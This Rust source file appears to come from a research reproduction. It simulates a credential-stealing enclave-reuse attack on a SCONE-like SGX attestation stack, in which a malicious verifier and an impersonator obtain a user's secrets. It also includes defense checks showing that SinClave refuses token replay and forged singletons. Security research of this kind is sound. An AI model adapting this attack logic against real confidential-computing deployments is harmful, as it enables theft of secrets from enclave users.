@@ -1,0 +1,262 @@
+//! The full §3.3.1 attack procedure against the SCONE-like stack —
+//! and the §4.4 defense checks showing every variant fails against
+//! SinClave.
+//!
+//! Attack recipe ("Attack Procedure", §3.3.1):
+//!
+//! 1. The adversary starts the victim's *genuine* interpreter enclave
+//!    on their machine, but configured through the adversary's own
+//!    verifier and volume to run a report-server script.
+//! 2. The TEE impersonator connects to the *real* CAS, fetches a
+//!    challenge, has the report server bind the impersonator's channel
+//!    into a report, quotes it via the host quoting enclave, and
+//!    completes attestation.
+//! 3. The real CAS — seeing a valid quote for the expected enclave,
+//!    correctly channel-bound — delivers the user's secrets to the
+//!    adversary.
+
+use crate::impersonator::scone_impersonate;
+use crate::malicious::{report_server_payload, MaliciousCas};
+use rand::rngs::StdRng;
+use rand::SeedableRng;
+use sinclave::instance_page::InstancePage;
+use sinclave::token::AttestationToken;
+use sinclave::AppConfig;
+use sinclave_cas::CasServer;
+use sinclave_runtime::scone::{PackagedApp, SconeHost, StartOptions};
+use sinclave_runtime::RuntimeError;
+use std::sync::Arc;
+
+/// Everything the adversary controls when mounting the attack.
+pub struct AttackEnvironment {
+    /// The deployment machine (adversary-controlled host).
+    pub host: SconeHost,
+    /// The *real* verifier's address.
+    pub cas_addr: String,
+    /// The user's configuration id at the real verifier.
+    pub config_id: String,
+    /// The victim's distributable binary package.
+    pub victim: PackagedApp,
+}
+
+/// Result of a successful reuse attack: the stolen configuration.
+#[derive(Debug)]
+pub struct StolenLoot {
+    /// The user's configuration, including secrets and volume keys.
+    pub config: AppConfig,
+}
+
+/// Runs the complete reuse attack against a baseline deployment.
+///
+/// `use_import_flavor` selects the report-server construction: direct
+/// entry-script configuration, or a dynamically `import`ed module
+/// (the paper's Apache/NGINX dynamic-module variant).
+///
+/// # Errors
+///
+/// Returns the verifier's denial when the attack is defeated (the
+/// SinClave deployments) or infrastructure failures.
+pub fn run_reuse_attack(
+    env: &AttackEnvironment,
+    use_import_flavor: bool,
+    seed: u64,
+) -> Result<StolenLoot, RuntimeError> {
+    let network = env.host.network.clone();
+    let rs_addr = format!("rs:{seed}");
+
+    // Step 1: adversary infrastructure — their verifier delivering the
+    // report-server configuration.
+    let (evil_volume, evil_config) = report_server_payload(&rs_addr, use_import_flavor);
+    let evil_cas = MaliciousCas::new(seed ^ 0xe411, evil_config);
+    let evil_addr = format!("evil-cas:{seed}");
+    let evil_handle = evil_cas.serve(&network, &evil_addr, 1, seed ^ 0xe412);
+
+    // Step 2: start the victim's *genuine* enclave, pointed at the
+    // adversary's verifier. In the background: its entry script is the
+    // report server, which blocks waiting for the impersonator.
+    let victim = env.victim.clone();
+    let host_platform = env.host.platform.clone();
+    let host_qe = env.host.qe.clone();
+    let host_network = network.clone();
+    let victim_handle = std::thread::spawn(move || {
+        let host = SconeHost::new(host_platform, host_qe, host_network);
+        host.start_baseline(
+            &victim,
+            &StartOptions::new(&evil_addr, "adversary-session")
+                .with_volume(evil_volume)
+                .with_seed(seed ^ 0x71),
+        )
+    });
+
+    // Step 3: the impersonator completes the real attestation.
+    let result = scone_impersonate(
+        &network,
+        &env.cas_addr,
+        &env.config_id,
+        &rs_addr,
+        &env.host.qe,
+        None,
+        seed ^ 0x1a9e,
+    );
+
+    let victim_result = victim_handle.join().expect("victim thread");
+    evil_handle.join().expect("evil cas thread");
+
+    // If the impersonation failed before contacting the report server,
+    // the victim enclave may have failed too (e.g. SinClave-aware
+    // runtime refusing baseline configuration); surface the
+    // impersonation outcome either way.
+    let config = result?;
+    let _ = victim_result; // may be Ok (report served) in the success case
+    Ok(StolenLoot { config })
+}
+
+/// Defense check: the adversary holds a grant-issued token *and*
+/// observed the matching sigstruct, restarts the singleton enclave
+/// construction, and lets it attest — the token must redeem at most
+/// once, so the restarted ("reused") enclave is refused.
+///
+/// Returns the runtime error of the *second* attestation.
+///
+/// # Panics
+///
+/// Panics if the first, legitimate start fails.
+pub fn replay_singleton_start(
+    host: &SconeHost,
+    cas: &Arc<CasServer>,
+    packaged: &PackagedApp,
+    cas_addr: &str,
+    config_id: &str,
+    seed: u64,
+) -> RuntimeError {
+    let mut rng = StdRng::seed_from_u64(seed);
+    // Legitimate singleton start: grant → build → attest → run.
+    let grant = host
+        .request_grant(packaged, cas_addr, &mut rng)
+        .expect("grant");
+    let page = InstancePage::new(grant.token, grant.verifier_identity);
+    let enclave1 = Arc::new(
+        host.build_enclave(
+            packaged,
+            &page.to_page_bytes(),
+            &grant.sigstruct,
+            sinclave_sgx::attributes::Attributes::production(),
+        )
+        .expect("build"),
+    );
+    host.resume_singleton(
+        packaged,
+        enclave1,
+        &StartOptions::new(cas_addr, config_id).with_seed(seed ^ 1),
+    )
+    .expect("first singleton start succeeds");
+    assert_eq!(cas.stats.configs_delivered.load(std::sync::atomic::Ordering::Relaxed), 1);
+
+    // The reuse: identical construction, second attestation.
+    let enclave2 = Arc::new(
+        host.build_enclave(
+            packaged,
+            &page.to_page_bytes(),
+            &grant.sigstruct,
+            sinclave_sgx::attributes::Attributes::production(),
+        )
+        .expect("adversary can rebuild the enclave"),
+    );
+    host.resume_singleton(
+        packaged,
+        enclave2,
+        &StartOptions::new(cas_addr, config_id).with_seed(seed ^ 2),
+    )
+    .expect_err("token reuse must be refused")
+}
+
+/// Defense check: an adversary-signed singleton (the adversary forges
+/// their own on-demand SigStruct with their own key and verifier
+/// identity) can start — but can never redeem a real token.
+///
+/// Returns the impersonation error.
+///
+/// # Errors
+///
+/// Never succeeds by construction; the `Result` carries the denial.
+pub fn forged_singleton_attack(
+    env: &AttackEnvironment,
+    cas: &Arc<CasServer>,
+    token: AttestationToken,
+    seed: u64,
+) -> Result<StolenLoot, RuntimeError> {
+    let mut rng = StdRng::seed_from_u64(seed);
+    let network = env.host.network.clone();
+    let rs_addr = format!("rs-forged:{seed}");
+
+    // Adversary forges their own grant: own signer key, own identity.
+    let adversary_signer =
+        sinclave_crypto::rsa::RsaPrivateKey::generate(&mut rng, 1024).expect("keygen");
+    let adversary_verifier =
+        sinclave_crypto::rsa::RsaPrivateKey::generate(&mut rng, 1024).expect("keygen");
+    let forged_issuer = sinclave::verifier::SingletonIssuer::new(
+        adversary_signer.clone(),
+        adversary_verifier.public_key().fingerprint(),
+    );
+    // They must also re-sign the *common* sigstruct with their key to
+    // satisfy the issuer's signer check (§2.2.2 allows this).
+    let resigned = sinclave::signer::sign_enclave(
+        &env.victim.signed.layout,
+        &adversary_signer,
+        &sinclave::signer::SignerConfig::default(),
+    )
+    .expect("resign");
+    let forged_grant = forged_issuer
+        .issue(&mut rng, &resigned.common_sigstruct, &resigned.base_hash)
+        .expect("forged grant");
+
+    // Build and run the forged singleton as a report server: the
+    // adversary's own verifier will happily configure it.
+    let (evil_volume, evil_config) = report_server_payload(&rs_addr, false);
+    let evil_addr = format!("evil-cas-forged:{seed}");
+    // The forged instance page pins the *adversary's* verifier, so the
+    // enclave will accept the adversary's configuration.
+    let evil_cas = MaliciousCas::with_key(adversary_verifier, evil_config);
+    let evil_handle = evil_cas.serve(&network, &evil_addr, 1, seed ^ 0xf0);
+
+    let victim = env.victim.clone();
+    let page = InstancePage::new(forged_grant.token, forged_grant.verifier_identity);
+    let host_platform = env.host.platform.clone();
+    let host_qe = env.host.qe.clone();
+    let host_network = network.clone();
+    let forged_sigstruct = forged_grant.sigstruct.clone();
+    let victim_handle = std::thread::spawn(move || {
+        let host = SconeHost::new(host_platform, host_qe, host_network);
+        let enclave = Arc::new(
+            host.build_enclave(
+                &victim,
+                &page.to_page_bytes(),
+                &forged_sigstruct,
+                sinclave_sgx::attributes::Attributes::production(),
+            )
+            .expect("EINIT accepts any validly signed sigstruct"),
+        );
+        host.resume_singleton(
+            &victim,
+            enclave,
+            &StartOptions::new(&evil_addr, "x").with_volume(evil_volume).with_seed(1),
+        )
+    });
+
+    // Impersonate with the *real* token against the real CAS. The
+    // quote will show the forged singleton's measurement and signer —
+    // neither matches what the real CAS issued the token for.
+    let result = scone_impersonate(
+        &network,
+        &env.cas_addr,
+        &env.config_id,
+        &rs_addr,
+        &env.host.qe,
+        Some(token),
+        seed ^ 0x1a10,
+    );
+    let _ = victim_handle.join().expect("victim thread");
+    evil_handle.join().expect("evil cas");
+    let _ = cas;
+    result.map(|config| StolenLoot { config })
+}
